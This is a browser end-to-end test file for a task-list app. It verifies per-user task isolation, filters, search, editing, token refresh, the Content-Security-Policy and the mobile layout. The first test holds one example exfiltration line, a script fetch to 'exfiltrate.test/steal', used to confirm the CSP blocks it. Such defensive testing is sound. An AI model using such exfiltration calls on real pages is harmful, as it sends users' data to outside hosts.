// Browser end-to-end test: headless Chromium signs people up and proves each sees only their
// own tasks, in every filter tab, sort order and search, before and after editing, at 1280 and
// 390 px. A screenshot of each state is saved in E2E_ARTIFACTS_DIR (default e2e/artifacts/),
// light and dark (e2e/browser.mjs). The messages the UI gives are tested in
// browser-messages.test.mjs (its own servers: Better Auth allows 5 sign-ups a minute).
import assert from "node:assert/strict";
import { test } from "node:test";

import {
  addTask,
  complete,
  localDay,
  pageLuminance,
  serversAndBrowser,
  shot,
  signIn as signInAs,
  signOut,
  signUp as signUpAs,
  skip,
  taskItem,
  taskTitles,
  watchCsp,
} from "./browser.mjs";
import { newUser } from "./harness.mjs";

const suite = serversAndBrowser();

const signUp = (page, person) => signUpAs(page, suite.servers.authURL, person);
const signIn = (page, person) => signInAs(page, suite.servers.authURL, person);

test("A's tasks stay A's: sign up, add, complete, sign out; B sees nothing; A sees both", { skip }, async () => {
  const alice = newUser("alice");
  const bob = newUser("bob");
  const context = await suite.browser.newContext();
  const page = await context.newPage();
  // The Content-Security-Policy (proxy.ts) must not block anything the app itself does.
  const violations = watchCsp(page);

  await signUp(page, alice);
  await page.getByText("No tasks yet").waitFor();
  // Styled under that policy (Tailwind's stylesheet), light or dark as the system says.
  const light = await pageLuminance(page);
  await page.emulateMedia({ colorScheme: "dark" });
  const dark = await pageLuminance(page);
  await page.emulateMedia({ colorScheme: "light" });
  assert.ok(light.background > 0.9 && light.heading < 0.05, `light mode: ${JSON.stringify(light)}`);
  assert.ok(dark.background < 0.02 && dark.heading > 0.8, `dark mode: ${JSON.stringify(dark)}`);
  await shot(page, "tasks-empty", { dark: true });

  await addTask(page, "Buy milk");
  await addTask(page, "Call the bank");
  assert.deepEqual((await taskTitles(page)).sort(), ["Buy milk", "Call the bank"]);
  await shot(page, "alice-two-tasks");

  await page.getByRole("checkbox", { name: "Complete Buy milk" }).check();
  const milk = page.getByTestId("task").filter({ hasText: "Buy milk" });
  await page.waitForFunction((el) => el.dataset.completed === "true", await milk.elementHandle());
  await shot(page, "alice-completed-one");

  // The JWT lives in memory only; the session cookie is invisible to scripts (httpOnly).
  const storage = await page.evaluate(() => ({
    local: JSON.stringify({ ...localStorage }),
    session: JSON.stringify({ ...sessionStorage }),
    cookies: document.cookie,
  }));
  assert.doesNotMatch(storage.local + storage.session, /eyJ/, "a JWT was written to web storage");
  assert.doesNotMatch(storage.cookies, /session_token/, "the session cookie is readable by scripts");

  await signOut(page);
  await shot(page, "sign-in", { dark: true });

  // Same tab: B must not inherit A's in-memory token.
  await signUp(page, bob);
  await page.getByText("No tasks yet").waitFor();
  assert.deepEqual(await taskTitles(page), []);
  await shot(page, "bob-sees-nothing");
  await signOut(page);

  await signIn(page, alice);
  await page.getByTestId("task").first().waitFor();
  assert.deepEqual((await taskTitles(page)).sort(), ["Buy milk", "Call the bank"]);
  assert.equal(await milk.getAttribute("data-completed"), "true");
  assert.equal(
    await page.getByTestId("task").filter({ hasText: "Call the bank" }).getAttribute("data-completed"),
    "false",
  );
  await shot(page, "alice-sees-both");
  assert.deepEqual(violations, [], "the app's own pages broke its Content-Security-Policy");

  // ... and it does block what the app never does: a script calling another origin.
  const blocked = await page.evaluate(async () => {
    const violation = new Promise((resolve) =>
      document.addEventListener("securitypolicyviolation", (e) => resolve(e.effectiveDirective), { once: true }),
    );
    await fetch("http://exfiltrate.test/steal").catch(() => {});
    return Promise.race([violation, new Promise((resolve) => setTimeout(() => resolve(null), 3000))]);
  });
  assert.equal(blocked, "connect-src");
  await context.close();
});

test("a 401 from the backend makes the client fetch a fresh token and retry once", { skip }, async () => {
  const carol = newUser("carol");
  const context = await suite.browser.newContext();
  const page = await context.newPage();
  await signUp(page, carol);
  await addTask(page, "Survive a 401");

  let tokenRequests = 0;
  page.on("request", (request) => {
    if (request.url().endsWith("/api/auth/token")) tokenRequests += 1;
  });
  let rejected = 0;
  await page.route(`${suite.servers.backendURL}/**`, async (route) => {
    if (route.request().method() === "GET" && rejected === 0) {
      rejected += 1;
      await route.fulfill({
        status: 401,
        headers: { "WWW-Authenticate": "Bearer", "Access-Control-Allow-Origin": suite.servers.authURL },
        body: '{"detail":"token expired"}',
      });
      return;
    }
    await route.continue();
  });
  await page.reload();
  await page.getByTestId("task").filter({ hasText: "Survive a 401" }).waitFor();
  assert.equal(rejected, 1);
  assert.ok(tokenRequests >= 2, `expected a refresh after the 401, saw ${tokenRequests} token request(s)`);
  await shot(page, "carol-after-401-refresh");
  await context.close();
});

// --- Filters, sorting, search and editing, for two people at once ---------------------------

/** The sort <select>'s choices, and the query the backend should get for each. */
const SORTS = {
  "Newest first": { sort: "created", order: "desc" },
  "Oldest first": { sort: "created", order: "asc" },
  "Title A–Z": { sort: "title", order: "asc" },
  "Due date": { sort: "due_date", order: "asc" },
  "Priority (high first)": { sort: "priority", order: "desc" },
  "Recently updated": { sort: "updated", order: "desc" },
};

/**
 * Pick a view with the keyboard and the controls (tab, sort, search) and wait for the backend's
 * answer to exactly that view. Every view must differ from the one before, so a request is sent.
 */
async function showView(page, { tab, sort, search }) {
  const expected = { status: tab.toLowerCase(), ...SORTS[sort], q: search };
  const answered = page.waitForResponse((response) => {
    const url = new URL(response.url());
    if (response.request().method() !== "GET" || !url.pathname.endsWith("/tasks")) return false;
    if (url.searchParams.get("limit") !== "100") return false; // not the count of all tasks
    return Object.entries(expected).every(([name, value]) => (url.searchParams.get(name) ?? "") === value);
  });
  const button = page.getByRole("group", { name: "Show" }).getByRole("button", { name: tab, exact: true });
  await button.focus();
  await page.keyboard.press("Enter");
  await button.and(page.locator('[aria-pressed="true"]')).waitFor(); // the tab shows it is on
  await page.getByLabel("Sort by").selectOption({ label: sort });
  await page.getByLabel("Search tasks").fill(search);
  const response = await answered;
  assert.equal(response.status(), 200);
}

/** Wait until the page shows exactly these titles (in this order) and this count. */
async function expectList(page, who, titles, count) {
  const deadline = Date.now() + 10_000;
  let seen;
  for (;;) {
    seen = {
      titles: await taskTitles(page),
      count: (await page.getByTestId("task-count").textContent())?.trim(),
      state: await page.getByTestId("task-list").getAttribute("data-state"),
    };
    if (seen.state === "ready" && seen.count === count && JSON.stringify(seen.titles) === JSON.stringify(titles)) return;
    if (Date.now() > deadline) break;
    await new Promise((r) => setTimeout(r, 100));
  }
  assert.deepEqual({ titles: seen.titles, count: seen.count }, { titles, count }, who);
}

/** Open a task's edit form, change some fields, save; returns the PATCH body the page sent. */
async function editTask(page, title, { newTitle, description, priority, due }) {
  await taskItem(page, title).getByRole("button", { name: "Edit" }).click();
  const form = page.getByRole("form", { name: `Edit ${title}` });
  if (newTitle !== undefined) await form.getByLabel("Title", { exact: true }).fill(newTitle);
  if (description !== undefined) await form.getByLabel("Description", { exact: true }).fill(description);
  if (priority !== undefined) await form.getByLabel("Priority", { exact: true }).selectOption(priority);
  if (due !== undefined) await form.getByLabel("Due date", { exact: true }).fill(due);
  const sent = page.waitForRequest((r) => r.method() === "PATCH" && !r.url().endsWith("/complete"));
  await form.getByRole("button", { name: "Save" }).click();
  const body = (await sent).postDataJSON();
  await form.waitFor({ state: "detached" });
  return body;
}

test("filter tabs, sorting, search and editing: each of two people sees only their own tasks", { skip }, async () => {
  // Two people side by side, in different time zones (a due date is the end of a LOCAL day).
  const people = {
    dave: { user: newUser("dave"), timezoneId: "America/New_York" },
    erin: { user: newUser("erin"), timezoneId: "Asia/Kolkata" },
  };
  const violations = [];
  for (const person of Object.values(people)) {
    person.context = await suite.browser.newContext({ timezoneId: person.timezoneId });
    person.page = await person.context.newPage();
    violations.push(watchCsp(person.page));
    await signUp(person.page, person.user);
    await person.page.getByText("No tasks yet").waitFor();
  }
  const dave = people.dave.page;
  const erin = people.erin.page;

  await addTask(dave, "Pay rent", { priority: "high", due: await localDay(dave, -1) });
  await addTask(dave, "Buy milk", { priority: "low", due: await localDay(dave, 10), description: "Two litres, semi-skimmed" });
  await addTask(dave, "Water plants");
  await addTask(dave, "call mom", { due: await localDay(dave, 3) });
  await complete(dave, "Buy milk");
  await addTask(erin, "Erin's dentist", { priority: "high", due: await localDay(erin, 1) });
  await addTask(erin, "Erin buys milk");
  await addTask(erin, "Erin's report", { priority: "low", due: await localDay(erin, 5), description: "Quarterly numbers" });
  await complete(erin, "Erin's report");

  // Overdue is said in words: due yesterday and not done.
  assert.equal(await taskItem(dave, "Pay rent").getByTestId("task-overdue").textContent(), "Overdue");
  assert.equal(await dave.getByTestId("task-overdue").count(), 1);
  assert.equal(await erin.getByTestId("task-overdue").count(), 0);
  assert.equal(await taskItem(dave, "Pay rent").getByTestId("task-priority").textContent(), "High priority");
  await shot(dave, "tasks", { dark: true });

  const everyTitle = { dave: new Set(), erin: new Set() };
  /** One view for both people; then neither sees a single task of the other. */
  async function check(view, expected) {
    for (const [name, { page }] of Object.entries(people)) {
      await showView(page, view);
      const [titles, count] = expected[name];
      for (const title of titles) everyTitle[name].add(title);
      await expectList(page, `${name}, ${JSON.stringify(view)}`, titles, count);
    }
    for (const [name, other] of [["dave", "erin"], ["erin", "dave"]]) {
      const leaked = (await taskTitles(people[name].page)).filter((t) => everyTitle[other].has(t));
      assert.deepEqual(leaked, [], `${name} sees ${other}'s tasks in ${JSON.stringify(view)}`);
    }
  }

  await check({ tab: "All", sort: "Oldest first", search: "" }, {
    dave: [["Pay rent", "Buy milk", "Water plants", "call mom"], "4 tasks"],
    erin: [["Erin's dentist", "Erin buys milk", "Erin's report"], "3 tasks"],
  });
  await check({ tab: "All", sort: "Title A–Z", search: "" }, {
    dave: [["Buy milk", "call mom", "Pay rent", "Water plants"], "4 tasks"],
    erin: [["Erin buys milk", "Erin's dentist", "Erin's report"], "3 tasks"],
  });
  await check({ tab: "All", sort: "Due date", search: "" }, {
    dave: [["Pay rent", "call mom", "Buy milk", "Water plants"], "4 tasks"],
    erin: [["Erin's dentist", "Erin's report", "Erin buys milk"], "3 tasks"],
  });
  await check({ tab: "All", sort: "Priority (high first)", search: "" }, {
    dave: [["Pay rent", "call mom", "Water plants", "Buy milk"], "4 tasks"],
    erin: [["Erin's dentist", "Erin buys milk", "Erin's report"], "3 tasks"],
  });
  await check({ tab: "Pending", sort: "Priority (high first)", search: "" }, {
    dave: [["Pay rent", "call mom", "Water plants"], "3 of 4 tasks"],
    erin: [["Erin's dentist", "Erin buys milk"], "2 of 3 tasks"],
  });
  await check({ tab: "Completed", sort: "Priority (high first)", search: "" }, {
    dave: [["Buy milk"], "1 of 4 tasks"],
    erin: [["Erin's report"], "1 of 3 tasks"],
  });
  await shot(dave, "dave-completed-tab");
  await check({ tab: "All", sort: "Newest first", search: "MILK" }, {
    dave: [["Buy milk"], "1 of 4 tasks"],
    erin: [["Erin buys milk"], "1 of 3 tasks"],
  });
  await check({ tab: "Pending", sort: "Newest first", search: "milk" }, {
    dave: [[], "0 of 4 tasks"],
    erin: [["Erin buys milk"], "1 of 3 tasks"],
  });
  await dave.getByText("No tasks match “milk”.").waitFor();
  await check({ tab: "All", sort: "Title A–Z", search: "Semi-Skimmed" }, {
    dave: [["Buy milk"], "1 of 4 tasks"], // found in the description
    erin: [[], "0 of 3 tasks"],
  });
  await shot(erin, "erin-search-no-match");
  await check({ tab: "All", sort: "Recently updated", search: "" }, {
    dave: [["Buy milk", "call mom", "Water plants", "Pay rent"], "4 tasks"],
    erin: [["Erin's report", "Erin buys milk", "Erin's dentist"], "3 tasks"],
  });

  // The search box waits for a pause in typing: not one request per key.
  const searches = [];
  const countSearches = (request) => {
    const q = new URL(request.url()).searchParams.get("q");
    if (request.method() === "GET" && q) searches.push(q);
  };
  dave.on("request", countSearches);
  await dave.getByLabel("Search tasks").pressSequentially("rent", { delay: 40 });
  await expectList(dave, "dave typing", ["Pay rent"], "1 of 4 tasks");
  dave.off("request", countSearches);
  assert.ok(searches.length < 4 && searches.at(-1) === "rent", `one search per key: ${searches}`);
  await dave.getByLabel("Search tasks").fill("");
  await expectList(dave, "dave, search cleared", ["Buy milk", "call mom", "Water plants", "Pay rent"], "4 tasks");

  // Editing: title, priority and due date; only what changed is sent, a cleared field as null.
  const tomorrow = await localDay(dave, 1);
  const edited = await editTask(dave, "Water plants", { newTitle: "Water the plants", priority: "high", due: tomorrow });
  assert.deepEqual(Object.keys(edited).sort(), ["due_date", "priority", "title"]);
  assert.equal(edited.title, "Water the plants");
  assert.equal(edited.priority, "high");
  assert.match(edited.due_date, new RegExp(`^${tomorrow}T23:59:59[+-]\\d\\d:\\d\\d$`));
  await taskItem(dave, "Water the plants").waitFor();
  assert.equal(await taskItem(dave, "Water the plants").getByTestId("task-priority").textContent(), "High priority");
  assert.deepEqual(await editTask(dave, "Buy milk", { description: "", due: "" }), { description: null, due_date: null });
  await taskItem(dave, "Buy milk").getByTestId("task-due").waitFor({ state: "detached" });
  const later = await localDay(dave, 20);
  assert.deepEqual(Object.keys(await editTask(dave, "Pay rent", { due: later })), ["due_date"]);
  await taskItem(dave, "Pay rent").getByTestId("task-overdue").waitFor({ state: "detached" });

  // The day picked is the day shown again (the backend answers in UTC), and Escape cancels.
  await taskItem(dave, "Water the plants").getByRole("button", { name: "Edit" }).click();
  const form = dave.getByRole("form", { name: "Edit Water the plants" });
  assert.equal(await form.getByLabel("Due date", { exact: true }).inputValue(), tomorrow);
  await dave.keyboard.press("Escape");
  await form.waitFor({ state: "detached" });
  assert.equal(await dave.evaluate(() => document.activeElement?.textContent), "Edit");

  const inTwoDays = await localDay(erin, 2);
  const erinEdit = await editTask(erin, "Erin buys milk", { newTitle: "Erin buys oat milk", priority: "low", due: inTwoDays });
  assert.deepEqual(erinEdit, { title: "Erin buys oat milk", priority: "low", due_date: `${inTwoDays}T23:59:59+05:30` });
  await taskItem(erin, "Erin buys oat milk").waitFor();
  await shot(dave, "tasks-edited");

  await check({ tab: "All", sort: "Due date", search: "" }, {
    dave: [["Water the plants", "call mom", "Pay rent", "Buy milk"], "4 tasks"],
    erin: [["Erin's dentist", "Erin buys oat milk", "Erin's report"], "3 tasks"],
  });
  await check({ tab: "All", sort: "Priority (high first)", search: "" }, {
    dave: [["Water the plants", "Pay rent", "call mom", "Buy milk"], "4 tasks"],
    erin: [["Erin's dentist", "Erin's report", "Erin buys oat milk"], "3 tasks"], // ties: newest first
  });
  await check({ tab: "Pending", sort: "Recently updated", search: "" }, {
    dave: [["Pay rent", "Water the plants", "call mom"], "3 of 4 tasks"],
    erin: [["Erin buys oat milk", "Erin's dentist"], "2 of 3 tasks"],
  });
  await check({ tab: "All", sort: "Newest first", search: "OAT" }, {
    dave: [[], "0 of 4 tasks"],
    erin: [["Erin buys oat milk"], "1 of 3 tasks"],
  });

  // A phone: 390 px wide. The header stays one bar: name and address beside the button, cut
  // with "…" rather than wrapped, also with a long project name; nothing scrolls sideways
  // (shot() checks that at both widths).
  await showView(dave, { tab: "All", sort: "Due date", search: "" });
  await expectList(dave, "dave on a phone", ["Water the plants", "call mom", "Pay rent", "Buy milk"], "4 tasks");
  await dave.setViewportSize({ width: 390, height: 844 });
  const header = await dave.getByTestId("header").evaluate((el) => {
    // A long project name and a long address: both are cut, neither wraps.
    const brand = el.querySelector('[data-testid="brand"]');
    const address = el.querySelector('[data-testid="email"]').lastChild;
    const [name, email] = [brand.textContent, address.textContent];
    brand.textContent = "Über Tasks for the Whole Family and Friends";
    address.textContent = "dave.has.a.rather.long.address@mail.example.test";
    /** How many lines the text of `node` takes (its line boxes). */
    const lines = (node) => {
      const range = document.createRange();
      range.selectNodeContents(node);
      return new Set([...range.getClientRects()].map((r) => Math.round(r.top))).size;
    };
    const emailBox = el.querySelector('[data-testid="email"]');
    const button = el.querySelector("button");
    const bar = el.getBoundingClientRect();
    const place = button.getBoundingClientRect();
    const cut = (node) => node.scrollWidth > node.clientWidth && getComputedStyle(node).textOverflow === "ellipsis";
    const seen = {
      height: Math.round(bar.height),
      brandLines: lines(brand),
      brandCut: cut(brand),
      emailLines: lines(address), // its text, not the "Signed in as" for screen readers
      emailCut: cut(emailBox),
      buttonLines: lines(button),
      buttonText: button.textContent,
      buttonInside: place.right <= window.innerWidth && place.top >= bar.top && place.bottom <= bar.bottom,
      textBesideButton: Math.max(brand.getBoundingClientRect().right, emailBox.getBoundingClientRect().right) <= place.left,
    };
    [brand.textContent, address.textContent] = [name, email];
    return seen;
  });
  assert.deepEqual(
    { ...header, height: header.height <= 72 },
    {
      height: true,
      brandLines: 1,
      brandCut: true,
      emailLines: 1,
      emailCut: true,
      buttonLines: 1,
      buttonText: "Sign out",
      buttonInside: true,
      textBesideButton: true,
    },
    `the header at 390 px: ${JSON.stringify(header)}`,
  );
  await taskItem(dave, "call mom").getByRole("button", { name: "Edit" }).click();
  await dave.getByRole("form", { name: "Edit call mom" }).waitFor();
  await shot(dave, "editing", { dark: true });

  assert.deepEqual(violations.flat(), [], "the app's own pages broke its Content-Security-Policy");
  for (const person of Object.values(people)) await person.context.close();
});
